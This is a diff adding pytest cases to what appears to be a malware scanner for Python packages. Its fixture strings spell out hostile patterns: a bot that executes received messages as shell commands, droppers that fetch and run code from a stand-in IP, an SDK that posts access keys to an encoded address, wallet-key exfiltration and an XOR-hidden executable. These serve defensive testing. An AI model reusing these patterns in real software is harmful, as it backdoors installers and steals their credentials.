@@ -431,3 +431,269 @@ def test_a_download_command_with_a_variable_path_blocks_at_install(tmp_path: Pat
         "from setuptools import setup\nsetup(name='sample')\n"
     )
     assert _sdist(tmp_path, setup) is Decision.BLOCK
+
+
+# -- an executable shipped XOR-encoded under a source name --------------------------------------
+
+
+def _pe_stub() -> bytes:
+    """The headers of a Windows program (no code): enough for a reader to call it PE."""
+    return b"MZ" + b"\0" * 58 + (64).to_bytes(4, "little") + b"PE\0\0" + b"\0" * 200
+
+
+def test_an_executable_hidden_under_a_xor_key_in_a_py_file_blocks(tmp_path: Path) -> None:
+    hidden = bytes(b ^ 0xD8 for b in _pe_stub())
+    files: dict[str, str | bytes] = {
+        "sample/__init__.py": "def crypt(path, key):\n    return bytes(b ^ key for b in open(path, 'rb').read())\n",
+        "sample/test.py": hidden,
+    }
+    assert _verdict(build_wheel(tmp_path, "sample", "1.0", files)) is Decision.BLOCK
+
+
+def test_a_binary_test_fixture_is_not_blocked(tmp_path: Path) -> None:
+    files: dict[str, str | bytes] = {
+        "sample/__init__.py": "",
+        "sample/tests/data/raw.py": b"\x00\x01\x02 fixture bytes that are not an executable",
+        "sample/._setup.py": b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        ",
+    }
+    assert _verdict(build_wheel(tmp_path, "sample", "1.0", files)) is not Decision.BLOCK
+
+
+# -- a second interpreter started in the background to import another module --------------------
+
+BACKGROUND = (
+    "import subprocess\n"
+    "try:\n"
+    "    subprocess.Popen(['python3', '-c', 'import warnings; from helperlib import dist_util'],\n"
+    "                     close_fds=True)\n"
+    "except Exception:\n"
+    "    pass\n"
+)
+PROBE = (
+    "import subprocess, sys\n"
+    "HAS_NUMPY = subprocess.run([sys.executable, '-c', 'import numpy'], check=False).returncode == 0\n"
+    "def worker():\n"
+    "    return subprocess.Popen([sys.executable, '-c', 'from sample.jobs import main; main()'])\n"
+)
+
+
+def test_a_background_interpreter_that_only_imports_blocks(tmp_path: Path) -> None:
+    assert _wheel(tmp_path, {"sample/__init__.py": BACKGROUND}) is Decision.BLOCK
+
+
+def test_probing_for_a_module_or_starting_a_worker_is_allowed(tmp_path: Path) -> None:
+    assert _wheel(tmp_path, {"sample/__init__.py": PROBE}) is not Decision.BLOCK
+
+
+# -- a signing key sent to a throwaway domain ---------------------------------------------------
+
+KEY_THIEF = (
+    "import requests\n"
+    "def get_balance(private_key):\n"
+    "    body = [{'private_key': private_key}]\n"
+    "    return requests.post('https://walletapi-example.sbs/balance', json=body).json()\n"
+)
+KEY_LOOKALIKES = (
+    "import requests\n"
+    "def upload_certificate(private_key, chain):\n"  # a TLS key to the provider's own API
+    "    return requests.post('https://api.cloud-example.com/certs', json={'key': private_key})\n"
+    "def login(password):\n"  # a password to the service that checks it
+    "    return requests.post('https://dashboard-example.site/login', data={'pw': password})\n"
+    "def sample(seed):\n"  # a random seed is not a seed phrase
+    "    return requests.post('https://llm-example.xyz/v1/complete', json={'seed': seed})\n"
+)
+
+
+def test_a_signing_key_sent_to_a_throwaway_domain_blocks(tmp_path: Path) -> None:
+    assert _wheel(tmp_path, {"sample/__init__.py": KEY_THIEF}) is Decision.BLOCK
+
+
+def test_keys_to_their_own_service_and_passwords_are_allowed(tmp_path: Path) -> None:
+    assert _wheel(tmp_path, {"sample/__init__.py": KEY_LOOKALIKES}) is Decision.ALLOW
+
+
+# -- a chat bot that runs the commands it is sent -----------------------------------------------
+
+BOT_RAT = (
+    "import subprocess, threading, telebot\n"
+    "bot = telebot.TeleBot('123456:EXAMPLE')\n"
+    "@bot.message_handler(func=lambda m: True)\n"
+    "def handler(m):\n"
+    "    cmd = m.text\n"
+    "    out = subprocess.check_output(cmd, shell=True, text=True)\n"
+    "    bot.reply_to(m, out)\n"
+    "threading.Thread(target=bot.infinity_polling, daemon=True).start()\n"
+)
+CLI_TOOL = (
+    "import subprocess, click\n"
+    "@click.command()\n"
+    "@click.argument('cmd')\n"
+    "def run(cmd):\n"
+    "    subprocess.run(cmd, shell=True, check=True)\n"
+)
+BOT_ECHO = (
+    "import telebot\n"
+    "bot = telebot.TeleBot('123456:EXAMPLE')\n"
+    "@bot.message_handler(commands=['upper'])\n"
+    "def upper(m):\n"
+    "    bot.reply_to(m, m.text.upper())\n"
+)
+
+
+def test_a_bot_handler_that_runs_the_message_as_a_command_blocks(tmp_path: Path) -> None:
+    assert _wheel(tmp_path, {"sample/__init__.py": BOT_RAT}) is Decision.BLOCK
+
+
+@pytest.mark.parametrize("source", [CLI_TOOL, BOT_ECHO], ids=["click command", "echo bot"])
+def test_command_line_tools_and_ordinary_bots_are_allowed(source: str, tmp_path: Path) -> None:
+    assert _wheel(tmp_path, {"sample/cli.py": source}) is Decision.ALLOW
+
+
+# -- a one-line script written as bytes to a temporary file, then started ------------------------
+
+TEMP_DROPPER = (
+    "from tempfile import NamedTemporaryFile as _f\n"
+    "from os import system as _s\n"
+    "t = _f(delete=False)\n"
+    "t.write(b\"from urllib.request import urlopen as u;exec(u('http://198.51.100.7/r').read())\")\n"
+    "t.close()\n"
+    "_s(f'start pythonw {t.name}')\n"
+)
+TEMP_CONFIG = (
+    "from tempfile import NamedTemporaryFile\n"
+    "t = NamedTemporaryFile(delete=False)\n"
+    "t.write(b'[tool.sample]\\nname = \"x\"; value = 3  # written for the test run\\n')\n"
+    "t.close()\n"
+)
+
+
+def test_a_script_written_as_bytes_then_started_blocks(tmp_path: Path) -> None:
+    assert _wheel(tmp_path, {"sample/loader.py": TEMP_DROPPER}) is Decision.BLOCK
+
+
+def test_writing_a_config_file_is_allowed(tmp_path: Path) -> None:
+    assert _wheel(tmp_path, {"sample/loader.py": TEMP_CONFIG}) is Decision.ALLOW
+
+
+# -- set-up that drops an obfuscated browser script, and pip driven in-process ------------------
+
+_OBFUSCATED = ";".join(f"var _0x{i:04x}a=_0x{i + 1:04x}a" for i in range(30))
+EXTENSION_DROP = (
+    "import os\n"
+    "from setuptools import setup\n"
+    "folder = os.path.join(os.getenv('APPDATA', '/tmp'), 'Extension')\n"
+    "with open(os.path.join(folder, 'background.js'), 'w') as f:\n"
+    f"    f.write('''{_OBFUSCATED}''')\n"
+    "setup(name='sample', version='1.0')\n"
+)
+PIP_IN_PROCESS = (
+    "from setuptools import setup\n"
+    "from pip._internal import main\n"
+    "main(['install', 'helperlib'])\n"
+    "setup(name='sample', version='1.0')\n"
+)
+
+
+def test_set_up_that_writes_obfuscated_javascript_blocks(tmp_path: Path) -> None:
+    assert _sdist(tmp_path, EXTENSION_DROP) is Decision.BLOCK
+
+
+def test_set_up_that_drives_pip_in_process_is_reported(tmp_path: Path) -> None:
+    result = scan_target(build_sdist(tmp_path, "sample", "1.0", {"setup.py": PIP_IN_PROCESS}),
+                         Policy())  # fmt: skip
+    rules = {f.rule for f in result.verdict.findings}
+    assert "code/install-time-command" in rules
+
+
+# -- a script written one line per write() ------------------------------------------------------
+
+LINE_BY_LINE = (
+    "import os\n"
+    "def check():\n"
+    "    with open('/tmp/job.py', 'w') as f:\n"
+    "        f.write('import subprocess\\n')\n"
+    "        f.write('from urllib import request\\n')\n"
+    "        f.write(\"u = 'http://198.51.100.7/p.sh'\\n\")\n"
+    "        f.write(\"request.urlretrieve(u, '/tmp/p.sh')\\n\")\n"
+    "        f.write(\"subprocess.call('bash /tmp/p.sh', shell=True)\\n\")\n"
+    "    os.system('python3 /tmp/job.py &')\n"
+    "check()\n"
+)
+LINE_BY_LINE_REPORT = (
+    "def report(rows):\n"
+    "    with open('report.csv', 'w') as f:\n"
+    "        f.write('name,count\\n')\n"
+    "        for name, count in rows:\n"
+    "            f.write(f'{name},{count}\\n')\n"
+    "        f.write('total (all rows),' + str(len(rows)) + '\\n')\n"
+)
+
+
+def test_a_script_written_line_by_line_is_judged_whole(tmp_path: Path) -> None:
+    assert _wheel(tmp_path, {"sample/color.py": LINE_BY_LINE}) is Decision.BLOCK
+
+
+def test_a_report_written_line_by_line_is_allowed(tmp_path: Path) -> None:
+    assert _wheel(tmp_path, {"sample/report.py": LINE_BY_LINE_REPORT}) is Decision.ALLOW
+
+
+# -- an SDK's constructor that posts the keys it was given --------------------------------------
+
+TROJANED_SDK = (
+    "import base64, requests\n"
+    "class Config:\n"
+    "    def __init__(self, access_key_id, access_key_secret):\n"
+    "        self._secret_id = access_key_id\n"
+    "        self._secret_key = access_key_secret\n"
+    "        try:\n"
+    "            data = {'ak': self._secret_id, 'sk': self._secret_key}\n"
+    "            requests.post(base64.b64decode('aHR0cDovLzE5OC41MS4xMDAuNy9r').decode(), json=data)\n"
+    "        except Exception:\n"
+    "            pass\n"
+)
+NOTIFIER = (
+    "import requests\n"
+    "class Notifier:\n"
+    "    def __init__(self, token, chat_id):\n"
+    "        self.token, self.chat_id = token, chat_id\n"
+    "    def send(self, text):\n"
+    "        url = f'https://api.telegram.org/bot{self.token}/sendMessage'\n"
+    "        requests.post(url, data={'chat_id': self.chat_id, 'text': text})\n"
+)
+
+
+def test_an_sdk_that_posts_its_keys_to_a_hidden_address_blocks(tmp_path: Path) -> None:
+    assert _wheel(tmp_path, {"sample/config.py": TROJANED_SDK}) is Decision.BLOCK
+
+
+def test_a_notifier_that_authenticates_with_its_bot_token_is_not_blocked(tmp_path: Path) -> None:
+    assert _wheel(tmp_path, {"sample/notify.py": NOTIFIER}) is not Decision.BLOCK
+
+
+# -- a module (not the package's __init__) that posts to a raw IP when imported ---------------------
+
+RAW_IP_AT_IMPORT = (
+    "import requests\n"
+    "def initialize(data):\n"
+    "    requests.post('http://198.51.100.7:5000/k', json={'d': data})\n"
+    "initialize(open('wallet.txt').read())\n"
+)
+LOCAL_SERVER = (
+    "import requests\n"
+    "def ping():\n"
+    "    return requests.get('http://127.0.0.1:8000/health').ok\n"
+    "READY = ping()\n"
+)
+
+
+def test_a_module_that_posts_to_a_raw_ip_on_import_blocks(tmp_path: Path) -> None:
+    """Before: `markets.py` (not the package's `__init__`) was never walked."""
+    assert _wheel(tmp_path, {"sample/__init__.py": "", "sample/markets.py": RAW_IP_AT_IMPORT}) is (
+        Decision.BLOCK
+    )
+
+
+def test_a_module_that_talks_to_a_local_server_is_allowed(tmp_path: Path) -> None:
+    assert _wheel(tmp_path, {"sample/__init__.py": "", "sample/local.py": LOCAL_SERVER}) is (
+        Decision.ALLOW
+    )
